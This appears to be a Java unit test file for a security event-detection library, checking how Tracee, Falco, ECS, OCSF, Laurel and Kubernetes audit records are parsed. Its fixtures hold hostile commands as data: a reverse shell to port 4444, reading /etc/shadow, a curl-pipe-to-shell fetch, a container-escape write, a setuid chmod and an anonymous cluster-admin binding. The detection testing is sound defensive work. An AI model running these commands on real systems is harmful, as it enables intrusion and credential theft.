package io.hivesec.detectors.source;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.event.ContainerStarted;
import io.hivesec.event.CredentialsChanged;
import io.hivesec.event.DescriptorDuplicated;
import io.hivesec.event.Event;
import io.hivesec.event.FileModeChanged;
import io.hivesec.event.FileOpened;
import io.hivesec.event.FileWritten;
import io.hivesec.event.ModuleLoaded;
import io.hivesec.event.NetworkAccepted;
import io.hivesec.event.NetworkConnected;
import io.hivesec.event.Process;
import io.hivesec.event.ProcessStarted;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

/** What sensors tell in places where it is easily passed over. */
class SensorFactsTest {

    private static List<Event> events(EventFormat format, String text) throws IOException {
        return Recording.read(format, text).events();
    }

    @Nested
    class Tracee {

        private String exec(String image, String former, int started) {
            return """
                    {"timestamp":1767323045678000000,"threadStartTime":%d,"processId":70,"threadId":70,"hostProcessId":70,\
                    "hostParentProcessId":60,"userId":33,"processName":"x","containerId":"","eventName":"sched_process_exec",\
                    "returnValue":0,"args":[{"name":"pathname","value":"%s"},{"name":"argv","value":["x"]},\
                    {"name":"prev_comm","value":"%s"}]}
                    """.formatted(1_767_323_000_000_000_000L + started, image, former);
        }

        @Test
        void nameBeforeTheFirstProgram_isTheParents() throws IOException {
            List<Event> read = events(EventFormat.TRACEE, exec("/bin/sh", "php-fpm", 1));
            assertThat(read.get(0).ancestors()).singleElement().satisfies(parent -> {
                assertThat(parent.pid()).isEqualTo(60);
                assertThat(parent.executable()).isEqualTo("php-fpm");
            });
        }

        @Test
        void nameBeforeAFurtherProgram_isItsOwn_theParentStays() throws IOException {
            List<Event> read = events(EventFormat.TRACEE, exec("/bin/sh", "php-fpm", 1) + exec("/usr/bin/id", "sh", 1));
            assertThat(read.get(1).ancestors()).extracting(Process::executable).containsExactly("php-fpm");
        }

        @Test
        void anotherProcessOfTheSameId_hasItsOwnParent() throws IOException {
            List<Event> read = events(EventFormat.TRACEE, exec("/bin/sh", "php-fpm", 1) + exec("/bin/ls", "bash", 2));
            assertThat(read.get(1).ancestors()).extracting(Process::executable).containsExactly("bash");
        }

        @Test
        void ancestorsByIdAlone_getTheParentsName() throws IOException {
            List<Event> read = events(EventFormat.TRACEE, """
                    {"timestamp":"2026-01-02T03:04:05.678Z","name":"sched_process_exec","workload":{"process":{"hostPid":70,\
                    "pid":7,"ancestors":[{"hostPid":60,"pid":6},{"hostPid":50,"pid":5}]}},"data":[{"name":"pathname",\
                    "str":"/bin/sh"},{"name":"argv","strArray":{"value":["sh"]}},{"name":"prev_comm","str":"postgres"}]}
                    """);
            assertThat(read.get(0).ancestors()).extracting(Process::executable).containsExactly("postgres", "");
            assertThat(read.get(0).ancestors()).extracting(Process::pid).containsExactly(60, 50);
        }
    }

    @Nested
    class Falco {

        private String alert(String rule, String fields) {
            return "{\"rule\":\"" + rule + "\",\"output\":\"o | x=writes\",\"time\":\"2026-01-02T03:04:05.678Z\","
                    + "\"output_fields\":{" + fields + "}}";
        }

        private String redirect(int localPort) {
            return alert(
                    "Redirect STDOUT/STDIN to Network Connection in Container",
                    "\"evt.type\":\"dup2\",\"proc.name\":\"bash\",\"proc.cmdline\":\"bash -i\",\"fd.name\":"
                            + "\"10.0.0.1:4000->198.51.100.9:4444\",\"fd.lport\":" + localPort);
        }

        @Test
        void streamThatBecameAConnection_isTheConnectionAndItsDuplicate() throws IOException {
            List<Event> read = events(EventFormat.FALCO, redirect(4000));
            assertThat(read.get(0)).isInstanceOf(ProcessStarted.class);
            assertThat(((NetworkConnected) read.get(1)).target()).hasToString("198.51.100.9:4444");
            assertThat(read.get(2)).isInstanceOf(DescriptorDuplicated.class);
        }

        @Test
        void connectionWhoseServerIsTheProcess_wasAccepted() throws IOException {
            NetworkAccepted accepted =
                    (NetworkAccepted) events(EventFormat.FALCO, redirect(4444)).get(1);
            assertThat(accepted.peer()).hasToString("10.0.0.1:4000");
        }

        @Test
        void duplicateOfAnotherRule_isOneOnlyWhenItsNumbersAreTold() throws IOException {
            String other = redirect(4000).replace("Redirect STDOUT/STDIN to Network Connection in Container", "mine");
            assertThat(events(EventFormat.FALCO, other)).singleElement().isInstanceOf(ProcessStarted.class);
        }

        @Test
        void fileThatIsTouched_isToldAfterWhoTouchesIt_once() throws IOException {
            String text = alert(
                    "Read sensitive file untrusted",
                    "\"evt.type\":\"openat\",\"proc.name\":\"cat\",\"proc.cmdline\":\"cat /etc/shadow\","
                            + "\"proc.pname\":\"php-fpm\",\"fd.name\":\"/etc/shadow\"");
            List<Event> read = events(EventFormat.FALCO, text + "\n" + text + "\n");
            assertThat(read).hasSize(3);
            assertThat(read.get(0)).isInstanceOf(ProcessStarted.class);
            assertThat(read.get(1)).isInstanceOf(FileOpened.class);
            assertThat(read.get(2)).isInstanceOf(FileOpened.class);
        }

        @Test
        void callThatSaysNothing_tellsWhoMadeIt_once() throws IOException {
            String text = alert("r", "\"evt.type\":\"setns\",\"proc.cmdline\":\"nsenter -t1 -m sh\"");
            assertThat(events(EventFormat.FALCO, text + "\n" + text + "\n"))
                    .singleElement()
                    .isInstanceOf(ProcessStarted.class);
        }

        @Test
        void ruleThatAsksForWriting_tellsAWrite() throws IOException {
            String fields = "\"evt.type\":\"openat\",\"proc.name\":\"sh\",\"fd.name\":\"/tmp/cg/release_agent\"";
            assertThat(events(EventFormat.FALCO, alert("Detect release_agent File Container Escapes", fields)))
                    .singleElement()
                    .isInstanceOf(FileWritten.class);
            assertThat(events(EventFormat.FALCO, alert("mine", fields)))
                    .singleElement()
                    .isInstanceOf(FileOpened.class);
        }
    }

    @Nested
    class Ecs {

        private String record(String action, String category, String rest) {
            return """
                    {"@timestamp":"2026-01-02T03:04:05.678Z","event":{"category":["%s"],"type":["change"],"action":"%s"},\
                    "process":{"pid":70,"executable":"/tmp/x"}%s}
                    """.formatted(category, action, rest);
        }

        @Test
        void modeIsTheCallsArgument_notWhatTheFileHadBefore() throws IOException {
            String rest =
                    ",\"file\":{\"path\":\"/tmp/x\",\"mode\":\"0644\"},\"auditd\":{\"data\":{\"syscall\":\"%s\",%s}}";
            String at = rest.formatted("fchmodat", "\"a1\":\"7ffd\",\"a2\":\"9ed\"");
            String plain = rest.formatted("chmod", "\"a1\":\"9ed\",\"a2\":\"0\"");
            for (String told : List.of(at, plain)) {
                List<Event> read = events(EventFormat.ECS, record("changed-file-permissions-of", "file", told));
                assertThat(((FileModeChanged) read.get(0)).mode()).isEqualTo(04755);
            }
        }

        @Test
        void userBeforeAChange_isWhomItActedForBefore() throws IOException {
            String before = record("executed", "process", ",\"user\":{\"id\":\"1000\"}");
            String after = record("changed-identity-of", "process", ",\"user\":{\"id\":\"0\"}");
            CredentialsChanged changed =
                    (CredentialsChanged) events(EventFormat.ECS, before + after).get(1);
            assertThat(changed.before().uid()).isEqualTo(1000);
            assertThat(changed.after().uid()).isZero();
        }

        @Test
        void kernelModule_isLoaded() throws IOException {
            String rest = ",\"auditd\":{\"data\":{\"syscall\":\"finit_module\",\"name\":\"rk\"}}";
            List<Event> read = events(EventFormat.ECS, record("loaded-kernel-module", "driver", rest));
            assertThat(((ModuleLoaded) read.get(0)).name()).isEqualTo("rk");
        }

        @Test
        void dottedNames_areNestedOnes() throws IOException {
            List<Event> read = events(EventFormat.ECS, """
                    {"@timestamp":"2026-01-02T03:04:05.678Z","event.category":["process"],"event.type":["start"],\
                    "event.action":"exec","process.pid":70,"process.executable":"/bin/sh","process.args":["sh","-i"],\
                    "process.parent.pid":60,"process.parent.executable":"/usr/sbin/php-fpm","user.id":"33"}
                    """);
            assertThat(read.get(0).process().arguments()).containsExactly("sh", "-i");
            assertThat(read.get(0).process().user().uid()).isEqualTo(33);
            assertThat(read.get(0).ancestors()).extracting(Process::executable).containsExactly("/usr/sbin/php-fpm");
        }

        @Test
        void leadersOfSessionAndEntry_areFurtherAncestorsUnlessTheyAreToldAlready() throws IOException {
            String rest = ",\"user\":{\"id\":\"33\"}";
            String process = "\"process\":{\"pid\":70,\"executable\":\"/tmp/x\",\"parent\":{\"pid\":60,\"executable\":"
                    + "\"/bin/sh\"},\"session_leader\":{\"pid\":60,\"executable\":\"/bin/sh\"},\"entry_leader\":{\"pid\":50,"
                    + "\"executable\":\"/usr/sbin/nginx\"}}";
            String text = record("exec", "process", rest)
                    .replace("\"process\":{\"pid\":70,\"executable\":\"/tmp/x\"}", process);
            List<Event> read = events(EventFormat.ECS, text);
            assertThat(read.get(0).ancestors())
                    .extracting(Process::executable)
                    .containsExactly("/bin/sh", "/usr/sbin/nginx");
        }
    }

    @Test
    void ocsf_changeOfUser_tellsWhomTheActorWas() throws IOException {
        CredentialsChanged changed =
                (CredentialsChanged) events(EventFormat.OCSF, """
                {"class_uid":1007,"activity_id":5,"time":1767323045678,"actor":{"process":{"pid":70,"name":"x","user":{"uid":\
                "1000"}}},"process":{"pid":70,"name":"x","user":{"uid":"0"}}}
                """).get(0);
        assertThat(changed.before().uid()).isEqualTo(1000);
        assertThat(changed.after().uid()).isZero();
    }

    @Nested
    class Laurel {

        private String execve(String argv) {
            return """
                    {"ID":"1767323045.678:42","SYSCALL":{"arch":"0xc000003e","syscall":59,"success":"yes","exit":0,"ppid":60,\
                    "pid":70,"uid":0,"euid":0,"comm":"sh","exe":"/bin/sh"},"EXECVE":{"argc":3,%s}}
                    """.formatted(argv);
        }

        @Test
        void percentSigns_standForBytes() throws IOException {
            List<Event> read = events(EventFormat.LAUREL, execve("\"ARGV\":[\"chmod\",\"u%2bs\",\"/tmp/%c3%a9\"]"));
            assertThat(read.get(0).process().arguments()).containsExactly("chmod", "u+s", "/tmp/é");
        }

        @Test
        void argumentsAsOneText_areSplit() throws IOException {
            List<Event> read = events(EventFormat.LAUREL, execve("\"ARGV_STR\":\"sh -c curl -s http://h/ | sh\""));
            assertThat(read.get(0).process().arguments()).containsExactly("sh", "-c", "curl -s http://h/ | sh");
        }

        @Test
        void argumentsBoth_areTheList() throws IOException {
            List<Event> read =
                    events(EventFormat.LAUREL, execve("\"ARGV\":[\"sh\",\"-c\",\"a b\"],\"ARGV_STR\":\"sh -c a b\""));
            assertThat(read.get(0).process().arguments()).containsExactly("sh", "-c", "a b");
        }
    }

    @Nested
    class KubernetesAudit {

        private String request(String resource, String subresource, String rest) {
            return """
                    {"kind":"Event","auditID":"a","stage":"ResponseComplete","verb":"create","user":{"username":"dev"},\
                    "userAgent":"kubectl/v1","objectRef":{"resource":"%s","namespace":"shop","name":"x","subresource":"%s"},\
                    "responseStatus":{"code":201},"requestReceivedTimestamp":"2026-01-02T03:04:05.678Z"%s}
                    """.formatted(resource, subresource, rest);
        }

        private String pod(String key, String metadata) {
            return "{\"metadata\":{" + metadata + "},\"spec\":{\"" + key
                    + "\":[{\"name\":\"c\",\"image\":\"i\",\"command\":[\"sh\",\"-c\"],\"args\":[\"id\"]}]}}";
        }

        @Test
        void commandsOfAWorkload_areStartsInItsContainers() throws IOException {
            String template = "{\"spec\":{\"template\":" + pod("containers", "") + "}}";
            String job = "{\"spec\":{\"jobTemplate\":" + template + "}}";
            for (String body : List.of(pod("initContainers", ""), template, job)) {
                List<Event> read =
                        events(EventFormat.K8SAUDIT, request("deployments", "", ",\"requestObject\":" + body));
                assertThat(read).hasSize(2);
                assertThat(read.get(0)).isInstanceOf(ContainerStarted.class);
                assertThat(read.get(1).process().arguments()).containsExactly("sh", "-c", "id");
                assertThat(read.get(1).container().id()).isEqualTo("k8s:shop/x/c");
            }
        }

        @Test
        void podThatAWorkloadMakes_isNotToldAgain() throws IOException {
            String owned = pod("containers", "\"ownerReferences\":[{\"kind\":\"ReplicaSet\"}]");
            assertThat(events(EventFormat.K8SAUDIT, request("pods", "", ",\"requestObject\":" + owned)))
                    .singleElement()
                    .isInstanceOf(ContainerStarted.class);
        }

        @Test
        void containerAddedToARunningPod_isStarted_theOthersWereBefore() throws IOException {
            String body = "{\"spec\":{\"containers\":[{\"name\":\"a\",\"command\":[\"app\"]}],\"ephemeralContainers\":"
                    + "[{\"name\":\"debug\",\"command\":[\"sh\"]}]}}";
            List<Event> read =
                    events(EventFormat.K8SAUDIT, request("pods", "ephemeralcontainers", ",\"responseObject\":" + body));
            assertThat(read).hasSize(2);
            assertThat(read.get(1).container().id()).isEqualTo("k8s:shop/x/debug");
        }

        @Test
        void patchThatAddsAContainer_isAPodOfJustThat() throws IOException {
            String body = "{\"spec\":{\"ephemeralContainers\":[{\"name\":\"debug\",\"command\":[\"sh\"]}]}}";
            List<Event> read =
                    events(EventFormat.K8SAUDIT, request("pods", "ephemeralcontainers", ",\"requestObject\":" + body));
            assertThat(((ContainerStarted) read.get(0)).configuration())
                    .contains("\"kind\":\"Pod\"", "\"containers\":[{\"name\":\"debug\"");
        }

        @Test
        void rightsGiven_areTheCommandThatGivesThem() throws IOException {
            String body = "{'metadata':{'name':'x'},'roleRef':{'kind':'ClusterRole','name':'cluster-admin'},"
                    + "'subjects':[{'kind':'User','name':'system:anonymous'},"
                    + "{'kind':'ServiceAccount','namespace':'web','name':'default'}]}";
            List<Event> events = events(
                    EventFormat.K8SAUDIT,
                    request("clusterrolebindings", "", ",\"requestObject\":" + body.replace('\'', '"')));
            assertThat(events)
                    .singleElement()
                    .satisfies(event -> assertThat(event.process().commandLine())
                            .isEqualTo(
                                    "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=system:anonymous"
                                            + " --serviceaccount=web:default"));
            assertThat(events(
                            EventFormat.K8SAUDIT,
                            request("clusterroles", "", ",\"requestObject\":" + body.replace('\'', '"'))))
                    .isEmpty();
        }

        @Test
        void commandThroughANodesProxy_isAStart() throws IOException {
            String uri = ",\"requestURI\":\"/api/v1/nodes/n/proxy/%s\"";
            List<Event> run =
                    events(EventFormat.K8SAUDIT, request("nodes", "proxy", uri.formatted("run/shop/x/c?cmd=id%20-u")));
            assertThat(run.get(0).process().arguments()).containsExactly("id", "-u");
            assertThat(run.get(0).container().pod()).isEqualTo("x");
            assertThat(events(EventFormat.K8SAUDIT, request("nodes", "proxy", uri.formatted("metrics?cmd=id"))))
                    .isEmpty();
        }
    }
}
